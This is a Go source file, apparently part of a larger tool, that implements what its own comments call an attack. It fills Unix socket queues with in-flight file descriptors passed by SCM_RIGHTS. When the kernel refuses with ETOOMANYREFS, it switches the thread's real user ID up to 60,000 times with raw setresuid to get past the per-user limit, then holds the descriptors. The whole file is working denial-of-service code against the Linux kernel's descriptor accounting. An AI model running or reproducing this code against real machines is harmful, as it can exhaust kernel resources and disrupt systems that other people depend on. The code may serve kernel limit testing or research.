package main

import (
	"errors"
	"fmt"
	"runtime"
	"syscall"

	"golang.org/x/sys/unix"
)

// mostUsers is the number of users in whose names the attack tries to send files.
const mostUsers = 60_000

// inflight opens the given number of files, sends them to its own sockets and closes them. They are then only in the
// queues of the sockets. With 0 it sends as many as it can, in the names of many users because the kernel limits each,
// and keeps them.
func inflight(args []string) error {
	n, err := number(args, 1)
	if err != nil {
		return err
	}
	runtime.LockOSThread()
	q := queues{most: n[0]}
	for user := uintptr(1); ; user++ {
		err := q.fill()
		if errors.Is(err, unix.ETOOMANYREFS) && user < mostUsers {
			// Only the thread gets another real user. It remains root.
			_, _, errno := syscall.RawSyscall(unix.SYS_SETRESUID, user, ^uintptr(0), ^uintptr(0))
			if errno == 0 {
				continue
			}
		}
		if err == nil {
			return nil
		}
		fmt.Println(q.sent, "are open:", err)
		if n[0] == 0 {
			return hold(nil)
		}
		return err
	}
}

// queues are sockets with files in their queues.
type queues struct {
	most, sent int
	last       [2]int
}

// fill sends files until the number is reached or the kernel refuses.
func (q *queues) fill() (err error) {
	const mostInMessage = 253
	files := make([]int, 0, mostInMessage)
	for q.most == 0 || q.sent < q.most {
		for len(files) < mostInMessage && err == nil {
			var fd int
			if fd, err = unix.Open("/dev/null", unix.O_RDONLY, 0); err == nil {
				files = append(files, fd)
			}
		}
		if err == nil {
			err = q.send(files)
		}
		for _, fd := range files {
			unix.Close(fd)
		}
		if err != nil {
			return err
		}
		q.sent += len(files)
		files = files[:0]
	}
	return nil
}

// send sends files to the present socket, or to a new one if its queue is full.
func (q *queues) send(files []int) (err error) {
	rights := unix.UnixRights(files...)
	if q.last[0] != 0 {
		err = unix.Sendmsg(q.last[0], []byte{0}, rights, nil, unix.MSG_DONTWAIT)
		if !errors.Is(err, unix.EAGAIN) {
			return err
		}
	}
	if q.last, err = unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM, 0); err != nil {
		return err
	}
	return unix.Sendmsg(q.last[0], []byte{0}, rights, nil, unix.MSG_DONTWAIT)
}
